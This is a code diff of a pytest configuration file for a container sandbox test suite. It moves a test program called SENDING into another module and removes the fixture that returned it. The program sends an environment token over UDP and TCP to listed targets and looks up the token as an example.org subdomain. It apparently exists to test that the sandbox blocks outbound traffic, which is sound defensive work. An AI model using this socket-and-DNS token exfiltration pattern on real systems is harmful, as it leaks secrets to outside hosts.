@@ -11,6 +11,7 @@ from pathlib import Path
 import docker
 import pytest
 
+from sandbox.candidates.programs import SENDING
 from sandbox.model.population import PopulationRef
 from sandbox.model.sandbox import SandboxSpec
 from sandbox.runtime import InstanceSpec, SiteRequest
@@ -24,29 +25,6 @@ ON_THE_DATA = {"PYTHONPATH": "/opt/civic-sandbox/application:/srv/data"}
 ANSWERING = """
 import http.server
 http.server.ThreadingHTTPServer(("0.0.0.0", 8080), http.server.SimpleHTTPRequestHandler).serve_forever()
-"""
-
-SENDING = """
-import json, os, socket
-token = os.environ["TOKEN"].encode()
-for host, port in json.loads(os.environ["TARGETS"]):
-    family = socket.AF_INET6 if ":" in host else socket.AF_INET
-    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
-        with socket.socket(family, kind) as sender:
-            sender.settimeout(0.5)
-            try:
-                sender.connect((host, port))
-                sender.sendall(token)
-                if kind == socket.SOCK_STREAM:
-                    print("connected", host, port)
-            except OSError as error:
-                print(type(error).__name__, host, port)
-for name in ("example.org", token.decode() + ".example.org"):
-    try:
-        print("resolved", socket.getaddrinfo(name, 80))
-    except OSError:
-        print("unresolved", name)
-print("all sent")
 """
 
 
@@ -113,12 +91,6 @@ def request_for(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Sit
         )
 
     return make
-
-
-@pytest.fixture(scope="session")
-def sending() -> str:
-    """The program that sends to every target it is given, as text."""
-    return SENDING
 
 
 @pytest.fixture(scope="session")
